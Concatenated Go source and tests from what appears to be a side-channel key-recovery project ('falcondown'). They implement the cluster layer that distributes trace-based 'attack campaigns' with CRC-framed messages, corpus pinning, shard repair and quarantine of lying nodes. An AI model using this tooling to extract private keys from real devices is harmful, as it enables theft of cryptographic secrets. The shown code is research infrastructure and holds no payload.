		t.Fatalf("blob cache missing after repair: %v (%d entries)", err, len(entries))
	}
}

func TestFleetDisklessWorkerServesFromPushedShards(t *testing.T) {
	// A worker with an empty root owns no replica at all; with shard push
	// it joins the fleet cold and completes the whole campaign from
	// fetched, digest-verified shards.
	f := campaign(t)
	diskless := httptest.NewServer(NewWorker(t.TempDir()).Handler())
	t.Cleanup(diskless.Close)

	c := New(Options{
		Workers:       []string{diskless.URL},
		Corpus:        fixtureCorpus,
		BlobURL:       blobService(t, f),
		ShardsPerTask: 2,
	})
	priv, rep, side := runFleet(t, f, c)
	sameRecovery(t, f, "diskless worker", priv, rep, side)
	r := c.Report()
	if r.Remote != r.Tasks || r.Local != 0 {
		t.Fatalf("report %+v: the diskless worker did not carry the campaign", r)
	}
	if r.Repairs == 0 {
		t.Fatalf("report %+v: no shard was ever pushed", r)
	}
}

func TestFleetCrossCheckQuarantinesLyingNode(t *testing.T) {
	// Storage honest, computation wrong: the lying node's disk replica
	// matches the pin, but a tap perturbs every observation it sweeps, so
	// only cross-checked execution can catch it. With CrossCheck=1 every
	// task runs on two nodes; the first disagreement is adjudicated
	// against a coordinator-local recompute, the liar is quarantined for
	// good, and the work is re-issued — bytes unmoved.
	f := campaign(t)
	liarWorker := NewWorker(f.root)
	liarWorker.Tap = func(src tracestore.Source) tracestore.Source {
		return faultinject.NewDivergentStore(src, 777, 1)
	}
	liar := httptest.NewServer(liarWorker.Handler())
	t.Cleanup(liar.Close)
	honest, _ := startFleet(t, f.root, 1)

	c := New(Options{
		Workers:       []string{liar.URL, honest[0]},
		Corpus:        fixtureCorpus,
		ShardsPerTask: 2,
		CrossCheck:    1,
		Retries:       2,
		Backoff:       time.Millisecond,
		Breaker:       supervise.BreakerConfig{Threshold: 2, OpenFor: time.Minute},
	})
	priv, rep, side := runFleet(t, f, c)
	sameRecovery(t, f, "cross-checked liar", priv, rep, side)
	r := c.Report()
	if r.CrossChecks == 0 {
		t.Fatalf("report %+v: nothing was ever cross-checked", r)
	}
	if r.Mismatches == 0 {
		t.Fatalf("report %+v: the liar was never caught", r)
	}
	if r.Quarantined != 1 {
		t.Fatalf("report %+v: want exactly one quarantined node", r)
	}
	if r.Retries == 0 {
		t.Fatalf("report %+v: the mismatching task was never re-issued", r)
	}
	q := c.Quarantined()
	if len(q) != 1 || q[0] != liar.URL {
		t.Fatalf("quarantined %v, want exactly [%s]", q, liar.URL)
	}
	// Quarantine speaks the breaker vocabulary: the liar's breaker is
	// wedged open so every surface that reports breaker state agrees.
	liarOpen := false
	for i, st := range c.Breakers() {
		if c.nodes[i].url == liar.URL && st.State == supervise.StateOpen {
			liarOpen = true
		}
	}
	if !liarOpen {
		t.Fatal("the quarantined node's breaker is not open")
	}
}

func TestFleetHeterogeneousKernelsBitIdentical(t *testing.T) {
	// A fleet where every node runs a different execution kernel — one
	// blocked, one fixed-point, coordinator fallback scalar — must land
	// byte-identical to the serial scalar reference. The kernel is a
	// worker-local execution detail; if one kernel leaked a different bit
	// into its partials, the cross-check would brand the node a liar, so
	// this also proves the integrity machinery and the kernels agree.
	f := campaign(t)
	blocked := NewWorker(f.root)
	blocked.Kernel = core.KernelBlocked
	fixed := NewWorker(f.root)
	fixed.Kernel = core.KernelFixed
	srvB := httptest.NewServer(blocked.Handler())
	t.Cleanup(srvB.Close)
	srvF := httptest.NewServer(fixed.Handler())
	t.Cleanup(srvF.Close)

	c := New(Options{
		Workers:       []string{srvB.URL, srvF.URL},
		Corpus:        fixtureCorpus,
		ShardsPerTask: 2,
		CrossCheck:    1,
	})
	priv, rep, side := runFleet(t, f, c)
	sameRecovery(t, f, "heterogeneous kernels", priv, rep, side)
	r := c.Report()
	if r.Remote != r.Tasks || r.Local != 0 {
		t.Fatalf("report %+v: want all-remote execution", r)
	}
	if r.Mismatches != 0 || r.Quarantined != 0 {
		t.Fatalf("report %+v: cross-check accused a kernel of divergence", r)
	}
}

func TestFleetCoordinatorKernelOverrideBitIdentical(t *testing.T) {
	// The coordinator can pin the fleet-wide kernel; the advisory rides
	// in every task request, overrides each worker's own default, and
	// still must not move a byte. A bogus name is a per-task 400 from the
	// worker, which degrades that task to local compute rather than
	// poisoning the campaign.
	f := campaign(t)
	scalarDefault := NewWorker(f.root) // worker default: scalar
	srv := httptest.NewServer(scalarDefault.Handler())
	t.Cleanup(srv.Close)

	c := New(Options{
		Workers:       []string{srv.URL},
		Corpus:        fixtureCorpus,
		ShardsPerTask: 2,
		Kernel:        "fixed",
	})
	priv, rep, side := runFleet(t, f, c)
	sameRecovery(t, f, "coordinator kernel override", priv, rep, side)
	if r := c.Report(); r.Remote != r.Tasks || r.Local != 0 {
		t.Fatalf("report %+v: want all-remote execution", r)
	}

	bad := New(Options{
		Workers:       []string{srv.URL},
		Corpus:        fixtureCorpus,
		ShardsPerTask: 2,
		Kernel:        "turbo",
		Retries:       1,
		Backoff:       time.Millisecond,
		Breaker:       supervise.BreakerConfig{Threshold: 1000},
	})
	priv, rep, side = runFleet(t, f, bad)
	sameRecovery(t, f, "unknown kernel name degraded", priv, rep, side)
	if r := bad.Report(); r.Local != r.Tasks {
		t.Fatalf("report %+v: unknown kernel should degrade every task to local", r)
	}
}

func TestFleetCrossCheckCleanFleetDepositsOnce(t *testing.T) {
	// Cross-checking an honest fleet costs duplicate compute but must not
	// change a byte or quarantine anyone.
	f := campaign(t)
	urls, _ := startFleet(t, f.root, 2)
	c := New(Options{
		Workers:       urls,
		Corpus:        fixtureCorpus,
		ShardsPerTask: 2,
		CrossCheck:    1,
	})
	priv, rep, side := runFleet(t, f, c)
	sameRecovery(t, f, "clean cross-checked fleet", priv, rep, side)
	r := c.Report()
	if r.CrossChecks != r.Tasks {
		t.Fatalf("report %+v: CrossCheck=1 must check every task", r)
	}
	if r.Mismatches != 0 || r.Quarantined != 0 {
		t.Fatalf("report %+v: an honest fleet was accused", r)
	}
	if r.Remote != r.Tasks {
		t.Fatalf("report %+v: cross-checked tasks did not complete remotely", r)
	}
}
