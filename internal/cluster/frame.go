// Package cluster distributes attack campaigns across machines: a
// coordinator that owns the corpus, the checkpoint sidecar and the fold
// order, and stateless workers that compute shard partials on demand.
// The protocol is stdlib HTTP/JSON in the style of internal/campaign;
// the byte-identity contract rides on internal/core's wire layer (every
// partial folds in pinned shard order through bit-exact codecs), so the
// cluster's only real job is robustness: leases, retries, breakers,
// hedging, digest framing, and graceful degradation down to a fleet of
// zero.
package cluster

import (
	"encoding/json"
	"fmt"
	"hash/crc32"
	"io"
)

// Every request and response body is wrapped in a digest frame: the JSON
// payload plus its CRC-32C. A corrupted body — bit flips, truncation,
// middleboxes — fails the digest (or the decode) and is rejected whole
// before any of its content is interpreted, so a damaged partial can
// never reach the fold. CRC-32C matches the tracestore's at-rest chunk
// checksums: the same integrity bar, in flight.
type envelope struct {
	CRC     uint32          `json:"crc"`
	Payload json.RawMessage `json:"payload"`
}

var crcTable = crc32.MakeTable(crc32.Castagnoli)

// errCorrupt tags frames whose digest or structure failed — the caller
// retries these (the peer computed fine; the bytes got damaged).
type errCorrupt struct{ err error }

func (e errCorrupt) Error() string { return fmt.Sprintf("cluster: corrupt frame: %v", e.err) }
func (e errCorrupt) Unwrap() error { return e.err }

// seal frames v for the wire.
func seal(v any) ([]byte, error) {
	payload, err := json.Marshal(v)
	if err != nil {
		return nil, err
	}
	return json.Marshal(envelope{CRC: crc32.Checksum(payload, crcTable), Payload: payload})
}

// open reads a framed body of at most limit bytes, verifies the digest,
// and decodes the payload into v.
func open(r io.Reader, limit int64, v any) error {
	data, err := io.ReadAll(io.LimitReader(r, limit+1))
	if err != nil {
		mFrameRejects.Inc()
		return errCorrupt{err}
	}
	if int64(len(data)) > limit {
		return fmt.Errorf("cluster: frame exceeds the %d-byte limit", limit)
	}
	var env envelope
	if err := json.Unmarshal(data, &env); err != nil {
		mFrameRejects.Inc()
		return errCorrupt{err}
	}
	if got := crc32.Checksum(env.Payload, crcTable); got != env.CRC {
		mFrameRejects.Inc()
		return errCorrupt{fmt.Errorf("digest %08x, frame claims %08x", got, env.CRC)}
	}
	if err := json.Unmarshal(env.Payload, v); err != nil {
		mFrameRejects.Inc()
		return errCorrupt{err}
	}
	return nil
}
