package cluster

import (
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"falcondown/internal/core"
	"falcondown/internal/obs"
	"falcondown/internal/tracestore"
)

// maxFrameBytes bounds any single framed request or response body. Task
// responses carry at most shardsPerTask × jobs-per-pass engine states;
// even the widest pass (the 2047-hypothesis exponent scan) stays far
// under this.
const maxFrameBytes = 1 << 27 // 128 MiB

// taskRequest describes one block of work: rebuild the corpus view from
// the spec, rebuild the pass's jobs from shard shardLo, and sweep shards
// [shardLo, shardHi).
type taskRequest struct {
	// Corpus names the trace corpus, resolved against the worker's root.
	Corpus string `json:"corpus"`
	// View reconstructs the coordinator's exact corpus view (mask layers
	// plus the frozen robust plan). When View.Pin is set the worker
	// verifies its replica's content digests against it before sweeping.
	View core.SourceSpec `json:"view"`
	// BlobURL, when set, is the coordinator's shard-push endpoint: a
	// worker whose replica is missing or divergent fetches authoritative
	// shards from it instead of rejecting the task.
	BlobURL string `json:"blobURL,omitempty"`
	// Jobs are the pass's accumulation jobs in pass order.
	Jobs []core.JobSpec `json:"jobs"`
	// JobLo is the pass-level index of Jobs[0], echoed back so the
	// coordinator deposits against the right fold lanes.
	JobLo   int `json:"jobLo"`
	ShardLo int `json:"shardLo"`
	ShardHi int `json:"shardHi"`
	// Kernel, when set, asks the worker to sweep with the named execution
	// kernel ("scalar", "blocked", "fixed"). Kernels accumulate identical
	// bits, so this is advisory performance tuning, never correctness: an
	// empty value falls back to the worker's own configured kernel.
	Kernel string `json:"kernel,omitempty"`
}

// taskResponse carries one ShardPartial per swept shard, in shard order.
type taskResponse struct {
	Partials []core.ShardPartial `json:"partials"`
	// Repaired counts shard files this task fetched from the blob
	// service (missing or divergent locally).
	Repaired int `json:"repaired,omitempty"`
}

// statusDivergent is the HTTP status a worker answers when its replica's
// content digests disagree with the request's pin and no blob service is
// available to repair from — a typed rejection, never a silent sweep of
// wrong bytes.
const statusDivergent = http.StatusConflict

// errDivergent reports a replica whose bytes are not the bytes the
// coordinator pinned.
type errDivergent struct{ detail string }

func (e errDivergent) Error() string {
	return "cluster: divergent corpus replica: " + e.detail
}

// corpusEntry is one cached, content-verified corpus. The cache key is
// the resolved path (local replicas) or the pinned manifest digest
// (assembled repairs); stamps let every request revalidate cheaply, so
// a repaired or replaced corpus on disk is visible without a restart.
type corpusEntry struct {
	corpus *tracestore.Corpus
	man    *tracestore.Manifest
	stamps []fileStamp
}

type fileStamp struct {
	path  string
	size  int64
	mtime time.Time
}

// stale re-stats the entry's files; any size or mtime drift (or a
// vanished file) invalidates the entry.
func (e *corpusEntry) stale() bool {
	for _, s := range e.stamps {
		st, err := os.Stat(s.path)
		if err != nil || st.Size() != s.size || !st.ModTime().Equal(s.mtime) {
			return true
		}
	}
	return false
}

func stampFiles(paths []string) ([]fileStamp, error) {
	out := make([]fileStamp, len(paths))
	for i, p := range paths {
		st, err := os.Stat(p)
		if err != nil {
			return nil, err
		}
		out[i] = fileStamp{path: p, size: st.Size(), mtime: st.ModTime()}
	}
	return out, nil
}

// Worker serves shard-partial computations for a coordinator. It is
// stateless beyond a cache of open corpora: a worker that crashes and
// restarts (or a fresh node joining mid-campaign) serves the same bytes,
// because every task request carries the full view, job specs and
// content pin. A worker with an empty root is fully diskless: every
// shard it sweeps arrives through the blob service.
type Worker struct {
	// Root is the directory corpus names resolve under. Requests naming
	// paths outside it are rejected. Fetched shards are cached under
	// Root/.blobcache.
	Root string

	// Tap, when set, wraps every corpus just before it is swept — the
	// test seam for a lying node: storage authentic, computation wrong.
	Tap func(tracestore.Source) tracestore.Source

	// Kernel is the execution kernel this node sweeps with when a task
	// does not name one. The zero value is the scalar reference path.
	Kernel core.Kernel

	client *http.Client

	// Served/divergent/repaired are per-instance tallies for the healthz
	// snapshot; the obs counters aggregate the same events process-wide.
	served    atomic.Int64
	divergent atomic.Int64
	repaired  atomic.Int64

	mu      sync.Mutex
	corpora map[string]*corpusEntry
}

// NewWorker returns a worker serving corpora under root.
func NewWorker(root string) *Worker {
	return &Worker{
		Root:    root,
		client:  &http.Client{Timeout: 2 * time.Minute},
		corpora: make(map[string]*corpusEntry),
	}
}

// workerHealth is the healthz snapshot: build identity plus the serving
// tallies a fleet operator checks before pointing a coordinator here.
type workerHealth struct {
	Status           string  `json:"status"`
	UptimeSeconds    float64 `json:"uptime_seconds"`
	GoVersion        string  `json:"go_version"`
	Revision         string  `json:"revision,omitempty"`
	Corpora          int     `json:"corpora"`
	TasksServed      int64   `json:"tasks_served"`
	ShardsRepaired   int64   `json:"shards_repaired"`
	DivergentRejects int64   `json:"divergent_rejects"`
}

// Handler returns the worker's HTTP surface:
//
//	POST /task     — compute shard partials for a task request
//	GET  /healthz  — JSON health snapshot (build info, serving tallies)
func (w *Worker) Handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/task", w.handleTask)
	mux.HandleFunc("/healthz", func(rw http.ResponseWriter, r *http.Request) {
		w.mu.Lock()
		corpora := len(w.corpora)
		w.mu.Unlock()
		rw.Header().Set("Content-Type", "application/json")
		enc := json.NewEncoder(rw)
		enc.SetIndent("", "  ")
		enc.Encode(workerHealth{
			Status:           "ok",
			UptimeSeconds:    obs.Uptime(),
			GoVersion:        runtime.Version(),
			Revision:         obs.BuildRevision(),
			Corpora:          corpora,
			TasksServed:      w.served.Load(),
			ShardsRepaired:   w.repaired.Load(),
			DivergentRejects: w.divergent.Load(),
		})
	})
	return mux
}

// cached returns the entry under key if it is present and its files have
// not drifted; a stale entry is evicted.
func (w *Worker) cached(key string) *corpusEntry {
	w.mu.Lock()
	defer w.mu.Unlock()
	e, ok := w.corpora[key]
	if !ok {
		return nil
	}
	if e.stale() {
		delete(w.corpora, key)
		return nil
	}
	return e
}

func (w *Worker) store(key string, e *corpusEntry) {
	w.mu.Lock()
	defer w.mu.Unlock()
	if w.corpora == nil {
		w.corpora = make(map[string]*corpusEntry)
	}
	w.corpora[key] = e
}

// openEntry opens and hashes the corpus at path, stamping its files for
// revalidation.
func openEntry(path string) (*corpusEntry, error) {
	c, err := tracestore.Open(path)
	if err != nil {
		return nil, err
	}
	stamps, err := stampFiles(c.Paths())
	if err != nil {
		return nil, err
	}
	man, err := c.Manifest()
	if err != nil {
		return nil, err
	}
	return &corpusEntry{corpus: c, man: man, stamps: stamps}, nil
}

// source resolves and caches the local replica named by a request,
// revalidating file stamps on every call.
func (w *Worker) source(name string) (*corpusEntry, error) {
	path, err := w.resolve(name)
	if err != nil {
		return nil, err
	}
	if e := w.cached(path); e != nil {
		return e, nil
	}
	e, err := openEntry(path)
	if err != nil {
		return nil, err
	}
	w.store(path, e)
	return e, nil
}

// resolve maps a request's corpus name to a filesystem path, confining
// it to the worker's root.
func (w *Worker) resolve(name string) (string, error) {
	if w.Root == "" {
		return name, nil
	}
	if filepath.IsAbs(name) {
		return "", fmt.Errorf("cluster: absolute corpus path %q rejected", name)
	}
	clean := filepath.Clean(name)
	if clean == ".." || strings.HasPrefix(clean, ".."+string(filepath.Separator)) {
		return "", fmt.Errorf("cluster: corpus path %q escapes the worker root", name)
	}
	return filepath.Join(w.Root, clean), nil
}

// sweepEntry picks the corpus a task sweeps. Unpinned requests use the
// local replica as-is (pre-pin coordinators keep working). Pinned
// requests demand content equality: a matching replica is used, a
// mismatched or missing one is repaired through the blob service when
// one is offered, and rejected as divergent otherwise.
func (w *Worker) sweepEntry(req taskRequest) (*corpusEntry, int, error) {
	pin := req.View.Pin
	e, localErr := w.source(req.Corpus)
	if pin == nil {
		return e, 0, localErr
	}
	if localErr == nil && e.man.Digest == pin.Manifest {
		return e, 0, nil
	}
	// A previously assembled repair for this exact content?
	if ae := w.cached("pin:" + pin.Manifest); ae != nil {
		return ae, 0, nil
	}
	if req.BlobURL == "" {
		if localErr != nil {
			return nil, 0, errDivergent{fmt.Sprintf("corpus %q unavailable and no blob service offered: %v", req.Corpus, localErr)}
		}
		return nil, 0, errDivergent{fmt.Sprintf("corpus %q has manifest %.12s…, coordinator pinned %.12s…", req.Corpus, e.man.Digest, pin.Manifest)}
	}
	var local *tracestore.Manifest
	if localErr == nil {
		local = e.man
	}
	ae, repaired, err := w.assemble(pin, req.BlobURL, local, localErr == nil, e)
	if err != nil {
		return nil, 0, err
	}
	w.store("pin:"+pin.Manifest, ae)
	return ae, repaired, nil
}

// assemble builds a corpus matching pin shard by shard: local shards
// whose digests already match are reused in place; every other shard is
// fetched from the blob service, digest-verified, and atomically renamed
// into the worker's blob cache.
func (w *Worker) assemble(pin *core.CorpusPin, blobURL string, local *tracestore.Manifest, haveLocal bool, localEntry *corpusEntry) (*corpusEntry, int, error) {
	byDigest := make(map[string]string)
	if haveLocal {
		paths := localEntry.corpus.Paths()
		for i, s := range local.Shards {
			byDigest[s.SHA256] = paths[i]
		}
	}
	cacheDir := filepath.Join(w.Root, ".blobcache")
	repaired := 0
	paths := make([]string, len(pin.Shards))
	for i, digest := range pin.Shards {
		if p, ok := byDigest[digest]; ok {
			paths[i] = p
			continue
		}
		cachedPath := filepath.Join(cacheDir, digest+".fdt2")
		if d, err := tracestore.HashShard(cachedPath); err == nil && d.SHA256 == digest {
			paths[i] = cachedPath
			continue
		}
		payload, err := fetchBlob(w.client, blobURL, digest)
		if err != nil {
			return nil, 0, err
		}
		if err := os.MkdirAll(cacheDir, 0o755); err != nil {
			return nil, 0, err
		}
		tmp, err := os.CreateTemp(cacheDir, "blob-*.tmp")
		if err != nil {
			return nil, 0, err
		}
		if _, err := tmp.Write(payload); err == nil {
			err = tmp.Sync()
		}
		if err := tmp.Close(); err != nil {
			os.Remove(tmp.Name())
			return nil, 0, err
		}
		if err := os.Rename(tmp.Name(), cachedPath); err != nil {
			os.Remove(tmp.Name())
			return nil, 0, err
		}
		paths[i] = cachedPath
		repaired++
	}
	c, err := tracestore.OpenFiles(paths)
	if err != nil {
		return nil, 0, err
	}
	man, err := c.Manifest()
	if err != nil {
		return nil, 0, err
	}
	if man.Digest != pin.Manifest {
		// Every shard hashed right individually, so this can only be a
		// pin whose manifest digest does not bind its own shard list.
		return nil, 0, errDivergent{fmt.Sprintf("assembled corpus has manifest %.12s…, pin claims %.12s…", man.Digest, pin.Manifest)}
	}
	stamps, err := stampFiles(paths)
	if err != nil {
		return nil, 0, err
	}
	return &corpusEntry{corpus: c, man: man, stamps: stamps}, repaired, nil
}

func (w *Worker) handleTask(rw http.ResponseWriter, r *http.Request) {
	if r.Method != http.MethodPost {
		http.Error(rw, "POST only", http.StatusMethodNotAllowed)
		return
	}
	sp := obs.StartSpan(mWorkerTaskSeconds)
	defer sp.End()
	var req taskRequest
	if err := open(r.Body, maxFrameBytes, &req); err != nil {
		http.Error(rw, err.Error(), http.StatusBadRequest)
		return
	}
	e, repaired, err := w.sweepEntry(req)
	if repaired > 0 {
		w.repaired.Add(int64(repaired))
		mWorkerRepairs.Add(int64(repaired))
	}
	if err != nil {
		var de errDivergent
		if ok := asDivergent(err, &de); ok {
			w.divergent.Add(1)
			mWorkerDivergent.Inc()
			http.Error(rw, de.Error(), statusDivergent)
			return
		}
		http.Error(rw, err.Error(), http.StatusNotFound)
		return
	}
	kern := w.Kernel
	if req.Kernel != "" {
		kern, err = core.ParseKernel(req.Kernel)
		if err != nil {
			http.Error(rw, err.Error(), http.StatusBadRequest)
			return
		}
	}
	w.served.Add(1)
	mWorkerTasks.Inc()
	var src core.Source = e.corpus
	if w.Tap != nil {
		src = w.Tap(src)
	}
	parts, err := core.ComputeShardPartialsKernel(src, req.View, req.Jobs, req.ShardLo, req.ShardHi, kern)
	if err != nil {
		http.Error(rw, err.Error(), http.StatusInternalServerError)
		return
	}
	body, err := seal(taskResponse{Partials: parts, Repaired: repaired})
	if err != nil {
		http.Error(rw, err.Error(), http.StatusInternalServerError)
		return
	}
	rw.Header().Set("Content-Type", "application/json")
	rw.Write(body)
}

func asDivergent(err error, out *errDivergent) bool {
	de, ok := err.(errDivergent)
	if ok {
		*out = de
	}
	return ok
}
