package cluster

import (
	"fmt"
	"net/http"
	"path/filepath"
	"strings"
	"sync"

	"falcondown/internal/core"
	"falcondown/internal/tracestore"
)

// maxFrameBytes bounds any single framed request or response body. Task
// responses carry at most shardsPerTask × jobs-per-pass engine states;
// even the widest pass (the 2047-hypothesis exponent scan) stays far
// under this.
const maxFrameBytes = 1 << 27 // 128 MiB

// taskRequest describes one block of work: rebuild the corpus view from
// the spec, rebuild the pass's jobs from shard shardLo, and sweep shards
// [shardLo, shardHi).
type taskRequest struct {
	// Corpus names the trace corpus, resolved against the worker's root.
	Corpus string `json:"corpus"`
	// View reconstructs the coordinator's exact corpus view (mask layers
	// plus the frozen robust plan).
	View core.SourceSpec `json:"view"`
	// Jobs are the pass's accumulation jobs in pass order.
	Jobs []core.JobSpec `json:"jobs"`
	// JobLo is the pass-level index of Jobs[0], echoed back so the
	// coordinator deposits against the right fold lanes.
	JobLo   int `json:"jobLo"`
	ShardLo int `json:"shardLo"`
	ShardHi int `json:"shardHi"`
}

// taskResponse carries one ShardPartial per swept shard, in shard order.
type taskResponse struct {
	Partials []core.ShardPartial `json:"partials"`
}

// Worker serves shard-partial computations for a coordinator. It is
// stateless beyond a cache of open corpora: a worker that crashes and
// restarts (or a fresh node joining mid-campaign) serves the same bytes,
// because every task request carries the full view and job specs.
type Worker struct {
	// Root is the directory corpus names resolve under. Requests naming
	// paths outside it are rejected.
	Root string

	mu      sync.Mutex
	corpora map[string]*tracestore.Corpus
}

// NewWorker returns a worker serving corpora under root.
func NewWorker(root string) *Worker {
	return &Worker{Root: root, corpora: make(map[string]*tracestore.Corpus)}
}

// Handler returns the worker's HTTP surface:
//
//	POST /task     — compute shard partials for a task request
//	GET  /healthz  — liveness probe
func (w *Worker) Handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/task", w.handleTask)
	mux.HandleFunc("/healthz", func(rw http.ResponseWriter, r *http.Request) {
		rw.WriteHeader(http.StatusOK)
		fmt.Fprintln(rw, "ok")
	})
	return mux
}

// source resolves and caches a corpus by its request name.
func (w *Worker) source(name string) (*tracestore.Corpus, error) {
	path, err := w.resolve(name)
	if err != nil {
		return nil, err
	}
	w.mu.Lock()
	defer w.mu.Unlock()
	if w.corpora == nil {
		w.corpora = make(map[string]*tracestore.Corpus)
	}
	if c, ok := w.corpora[path]; ok {
		return c, nil
	}
	c, err := tracestore.Open(path)
	if err != nil {
		return nil, err
	}
	w.corpora[path] = c
	return c, nil
}

// resolve maps a request's corpus name to a filesystem path, confining
// it to the worker's root.
func (w *Worker) resolve(name string) (string, error) {
	if w.Root == "" {
		return name, nil
	}
	if filepath.IsAbs(name) {
		return "", fmt.Errorf("cluster: absolute corpus path %q rejected", name)
	}
	clean := filepath.Clean(name)
	if clean == ".." || strings.HasPrefix(clean, ".."+string(filepath.Separator)) {
		return "", fmt.Errorf("cluster: corpus path %q escapes the worker root", name)
	}
	return filepath.Join(w.Root, clean), nil
}

func (w *Worker) handleTask(rw http.ResponseWriter, r *http.Request) {
	if r.Method != http.MethodPost {
		http.Error(rw, "POST only", http.StatusMethodNotAllowed)
		return
	}
	var req taskRequest
	if err := open(r.Body, maxFrameBytes, &req); err != nil {
		http.Error(rw, err.Error(), http.StatusBadRequest)
		return
	}
	src, err := w.source(req.Corpus)
	if err != nil {
		http.Error(rw, err.Error(), http.StatusNotFound)
		return
	}
	parts, err := core.ComputeShardPartials(src, req.View, req.Jobs, req.ShardLo, req.ShardHi)
	if err != nil {
		http.Error(rw, err.Error(), http.StatusInternalServerError)
		return
	}
	body, err := seal(taskResponse{Partials: parts})
	if err != nil {
		http.Error(rw, err.Error(), http.StatusInternalServerError)
		return
	}
	rw.Header().Set("Content-Type", "application/json")
	rw.Write(body)
}
