package cluster

import (
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"falcondown/internal/core"
	"falcondown/internal/obs"
	"falcondown/internal/tracestore"
)

// Observability differential suite: the flight recorder is a passive tap,
// so turning it off — or running with every tap firing at once — must not
// move a single byte of key, report, or checkpoint sidecar. The fixture
// reference is computed with obs enabled (the process default), which
// makes both directions of the comparison meaningful.

// TestObsDisabledBitIdentical reruns the serial reference with the whole
// registry disabled and demands byte-identity with the instrumented run.
func TestObsDisabledBitIdentical(t *testing.T) {
	f := campaign(t)
	obs.SetEnabled(false)
	defer obs.SetEnabled(true)

	src, err := tracestore.Open(filepath.Join(f.root, fixtureCorpus))
	if err != nil {
		t.Fatal(err)
	}
	store := &core.FileCheckpoint{Path: filepath.Join(t.TempDir(), "off.ckpt")}
	priv, rep, err := core.RecoverKeyResumable(src, f.pub, refConfig(), store)
	if err != nil {
		t.Fatalf("obs-off recovery: %v", err)
	}
	side := mustRead(t, store.Path)
	sameRecovery(t, f, "obs disabled (serial)", priv, rep, side)

	// Same invariant at fleet granularity: a distributed run with the
	// registry off matches the instrumented serial reference too.
	urls, _ := startFleet(t, f.root, 2)
	c := New(Options{Workers: urls, Corpus: fixtureCorpus, ShardsPerTask: 2})
	fpriv, frep, fside := runFleet(t, f, c)
	sameRecovery(t, f, "obs disabled (fleet)", fpriv, frep, fside)
}

// TestObsInstrumentedChaosFleetBitIdentical drives the most heavily
// instrumented path the coordinator has — a divergent replica repaired by
// shard push, every task cross-checked, hedging armed — and demands both
// byte-identity with the serial reference and a registry that actually
// recorded the chaos: tasks, repairs, cross-checks, sweep traffic.
func TestObsInstrumentedChaosFleetBitIdentical(t *testing.T) {
	f := campaign(t)
	if !obs.Enabled() {
		t.Fatal("registry is disabled; the instrumented half of the differential is vacuous")
	}

	wrong := httptest.NewServer(NewWorker(divergentRoot(t, f)).Handler())
	t.Cleanup(wrong.Close)
	honest, _ := startFleet(t, f.root, 1)

	c := New(Options{
		Workers:       []string{wrong.URL, honest[0]},
		Corpus:        fixtureCorpus,
		BlobURL:       blobService(t, f),
		ShardsPerTask: 2,
		CrossCheck:    1,
		Hedge:         time.Millisecond,
		Retries:       2,
		Backoff:       time.Millisecond,
	})
	priv, rep, side := runFleet(t, f, c)
	sameRecovery(t, f, "instrumented chaos fleet", priv, rep, side)
	r := c.Report()
	if r.Repairs == 0 || r.CrossChecks == 0 {
		t.Fatalf("report %+v: the chaos stage did not exercise repair + crosscheck", r)
	}

	// The taps mirror the coordinator's own report, so the process-wide
	// counters must have seen at least this run's traffic.
	for _, name := range []string{
		"falcon_fleet_tasks_total",
		"falcon_fleet_repairs_total",
		"falcon_fleet_crosschecks_total",
		"falcon_sweep_traces_total",
		"falcon_store_chunks_decoded_total",
	} {
		if v := counterValue(t, name); v <= 0 {
			t.Errorf("%s = %v after an instrumented fleet run, want > 0", name, v)
		}
	}

	// And the populated registry must still render valid Prometheus text:
	// every line a comment or a sample, histograms with le labels intact.
	var b strings.Builder
	if err := obs.Default().WritePrometheus(&b); err != nil {
		t.Fatal(err)
	}
	sample := regexp.MustCompile(`^[a-zA-Z_:][a-zA-Z0-9_:]*(\{[^}]*\})? -?[0-9.e+Ini-]+$`)
	comment := regexp.MustCompile(`^# (HELP|TYPE) [a-zA-Z_:][a-zA-Z0-9_:]*( .*)?$`)
	lines := strings.Split(strings.TrimRight(b.String(), "\n"), "\n")
	if len(lines) < 10 {
		t.Fatalf("Prometheus rendering suspiciously short: %d lines", len(lines))
	}
	for _, line := range lines {
		if !sample.MatchString(line) && !comment.MatchString(line) {
			t.Fatalf("invalid Prometheus exposition line: %q", line)
		}
	}
}

// counterValue reads a counter/gauge family's summed value out of the
// default registry's snapshot.
func counterValue(t *testing.T, name string) float64 {
	t.Helper()
	var total float64
	for _, m := range obs.Default().Snapshot() {
		if m.Name == name {
			total += m.Value + m.Sum
		}
	}
	return total
}

func mustRead(t *testing.T, path string) []byte {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return b
}
