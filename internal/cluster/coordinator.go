package cluster

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"reflect"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"falcondown/internal/core"
	"falcondown/internal/supervise"
)

// Options configures a coordinator.
type Options struct {
	// Workers are the fleet's base URLs (e.g. http://10.0.0.2:9100). An
	// empty fleet is legal: every task runs coordinator-local.
	Workers []string
	// Corpus is the corpus name workers resolve (relative to their root).
	Corpus string
	// BlobURL, when set, is advertised to workers as the shard-push
	// endpoint (see BlobServer): a worker with a missing or divergent
	// replica repairs itself from it instead of rejecting tasks, and a
	// diskless worker joins the fleet cold.
	BlobURL string
	// Transport overrides the HTTP transport (tests inject
	// faultinject.FlakyTransport here); nil means http.DefaultTransport.
	Transport http.RoundTripper
	// Lease is the per-attempt deadline. A worker that has not answered
	// within its lease is presumed dead or partitioned; the lease expires
	// and the task is re-issued exactly once per expiry, to the next node
	// in the ring. Default 30s.
	Lease time.Duration
	// Retries is how many re-issues a task gets after its first attempt
	// before degrading to coordinator-local execution. Default 2.
	Retries int
	// Backoff is the base of the exponential backoff between re-issues.
	// Default 100ms.
	Backoff time.Duration
	// Hedge, when positive, launches a second copy of a task on the next
	// ring node if the primary has not answered within this duration —
	// straggler mitigation. Both copies may deposit; the fold's dedupe
	// keeps exactly one. Zero disables hedging. Cross-checked tasks
	// never hedge (their witness is already a second copy).
	Hedge time.Duration
	// Breaker configures the per-worker-node circuit breakers ("a
	// straggler node is just a flaky device one level up").
	Breaker supervise.BreakerConfig
	// ShardsPerTask is the lease granularity: how many corpus shards one
	// task covers. Default 4.
